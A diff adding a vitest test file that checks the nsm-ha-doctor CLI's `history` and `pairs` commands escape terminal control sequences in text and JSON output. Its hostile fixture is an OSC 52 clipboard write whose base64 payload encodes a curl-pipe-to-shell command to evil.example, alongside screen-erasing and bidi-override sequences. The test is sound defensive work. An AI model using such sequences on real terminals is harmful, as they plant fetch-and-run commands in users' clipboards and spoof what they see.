@@ -1,0 +1,138 @@
+/**
+ * Attack: text from a node or an admin carrying OSC 52 (writes the clipboard), CSI 2J (erases the screen), a C1
+ * CSI, a carriage return that overwrites the line and a bidirectional override, printed by `history`, `pairs`
+ * and `fix`: a stored run's `by` and an unsaved pair's name, a ~/.ssh/config Host entry, a pair's host and
+ * tags, a fix's step output, result and re-check lines. None of it reaches the terminal raw: every control
+ * character shows as a visible escape, and `--format json` carries them as JSON `\u` escapes.
+ */
+import { writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterEach, describe, expect, it, vi } from 'vitest'
+import type { FixOutcome, FixPlan } from '../../src-main/shared/domain/fix'
+import { run as pairsCli } from '../../src-main/cli/commands/pairs'
+import { run as historyCli } from '../../src-main/cli/commands/history'
+import { openAppStore } from '../../src-main/main/store/app-store'
+import { SessionSecretStore } from '../../src-main/main/secrets/session-store'
+import { useTempDir } from '../db/temp'
+import { reportWithSecrets } from '../history/fixture-report'
+
+const OSC52 = '\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07'
+const CSI_2J = '\x1b[2J\x1b[H'
+const C1_CSI = '\x9b2J'
+const BIDI = '\u202e'
+const HOSTILE = `${OSC52}${CSI_2J}${C1_CSI}${BIDI}x\rdone: replication complete`
+
+/** every character a terminal acts on, except tab and newline: C0, DEL, C1, bidi overrides, line separators */
+// eslint-disable-next-line no-control-regex
+const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g
+function rawControls(text: string): string[] {
+  return [...text.matchAll(RAW)].map((m) => `\\u{${m[0].charCodeAt(0).toString(16)}}`)
+}
+/** the visible escapes of HOSTILE */
+function expectVisible(text: string): void {
+  expect(text).toContain('\\x1b]52;c;')
+  expect(text).toContain('\\x07')
+  expect(text).toContain('\\x1b[2J')
+  expect(text).toContain('\\x9b2J')
+  expect(text).toContain('\\u{202e}')
+  expect(text).toContain('\\x0ddone: replication complete')
+}
+
+const tempDir = useTempDir('nsmhad-termsafe-')
+const savedHome = process.env.NSM_HA_DOCTOR_HOME
+afterEach(() => {
+  if (savedHome === undefined) delete process.env.NSM_HA_DOCTOR_HOME
+  else process.env.NSM_HA_DOCTOR_HOME = savedHome
+  vi.restoreAllMocks()
+})
+
+function capture(): { out: string[]; err: string[]; all(): string } {
+  const out: string[] = []
+  const err: string[] = []
+  vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => void out.push(a.join(' ')))
+  vi.spyOn(console, 'error').mockImplementation((...a: unknown[]) => void err.push(a.join(' ')))
+  vi.spyOn(process.stdout, 'write').mockImplementation((s: string | Uint8Array) => (out.push(String(s)), true))
+  return { out, err, all: () => [...out, ...err].join('\n') }
+}
+
+describe('history on a terminal', () => {
+  it('a stored run of an unsaved pair whose name and `by` hold control sequences: text and JSON show them escaped', async () => {
+    const dir = tempDir()
+    process.env.NSM_HA_DOCTOR_HOME = dir
+    const name = `lab${CSI_2J}`
+    const report = reportWithSecrets()
+    report.pair = { ...report.pair, name }
+    report.by = `admin${HOSTILE}`
+    const s = await openAppStore({ dir, secretStore: new SessionSecretStore() })
+    s.history.saveRun(report)
+    s.close()
+    // the input really carries the controls
+    expect(rawControls(report.by)).not.toEqual([])
+
+    const io = capture()
+    expect(await historyCli(['--pair', name])).toBe(0)
+    expect(rawControls(io.all())).toEqual([])
+    expectVisible(io.out.join('\n'))
+
+    io.out.length = 0
+    expect(await historyCli(['--pair', name, '--format', 'json'])).toBe(0)
+    const text = io.out.join('\n')
+    expect(rawControls(text)).toEqual([])
+    const parsed = JSON.parse(text) as { pair: string; runs: { by: string }[] }
+    // JSON escapes keep the value: a program reading it gets the same text back
+    expect(parsed.pair).toBe(name)
+    expect(parsed.runs[0].by).toBe(report.by)
+
+    // a name with no runs: the refusal quotes it escaped
+    expect(await historyCli(['--pair', `x${HOSTILE}`])).toBe(3)
+    expect(rawControls(io.all())).toEqual([])
+    expectVisible(io.err.join('\n'))
+  })
+})
+
+describe('pairs on a terminal', () => {
+  it('ssh-hosts: a ~/.ssh/config Host entry with control sequences is listed escaped', async () => {
+    const dir = tempDir()
+    process.env.NSM_HA_DOCTOR_HOME = dir
+    const config = join(dir, 'ssh_config')
+    writeFileSync(
+      config,
+      [
+        `Host nsm-a${OSC52}`,
+        `  HostName 10.0.0.1${CSI_2J}`,
+        `  User root${BIDI}`,
+        `  IdentityFile /keys/id${C1_CSI}`,
+        `  ProxyJump ops@bastion\x1b[1A`,
+        ''
+      ].join('\n')
+    )
+    const io = capture()
+    expect(await pairsCli(['ssh-hosts', '--ssh-config', config])).toBe(0)
+    const text = io.out.join('\n')
+    expect(text).toContain('nsm-a')
+    expect(rawControls(text)).toEqual([])
+    expect(text).toContain('\\x1b]52;c;')
+    expect(text).toContain('\\x1b[2J')
+    expect(text).toContain('\\u{202e}')
+    expect(text).toContain('\\x9b2J')
+    expect(text).toContain('jump ops@bastion\\x1b[1A')
+  })
+
+  it('add, list and remove: a host, a tag or a name with control sequences never reaches the terminal raw', async () => {
+    const dir = tempDir()
+    process.env.NSM_HA_DOCTOR_HOME = dir
+    const io = capture()
+    // whatever the validation decides (saved or refused), what is printed is escaped
+    await pairsCli(['add', '--name', `lab${CSI_2J}`, '--primary', 'a', '--secondary', 'b'])
+    await pairsCli(['add', '--name', 'lab', '--primary', `root@a${HOSTILE}`, '--secondary', 'b'])
+    await pairsCli(['add', '--name', 'lab2', '--primary', 'a', '--secondary', 'b', '--tag', `eu${HOSTILE}`])
+    expect(await pairsCli(['list'])).toBe(0)
+    expect(await pairsCli(['list', '--format', 'json'])).toBe(0)
+    expect(await pairsCli(['remove', `gone${HOSTILE}`])).toBe(3)
+    expect(rawControls(io.all())).toEqual([])
+    expectVisible(io.err.join('\n'))
+    // the validation refuses control characters in a name and in tags; a target is refused quoted, escaped
+    expect(io.err).toContain('nsm-ha-doctor pairs: name contains control characters')
+    expect(io.err.join('\n')).toContain('--primary: cannot read target "root@a\\x1b]52;c;')
+  })
+})
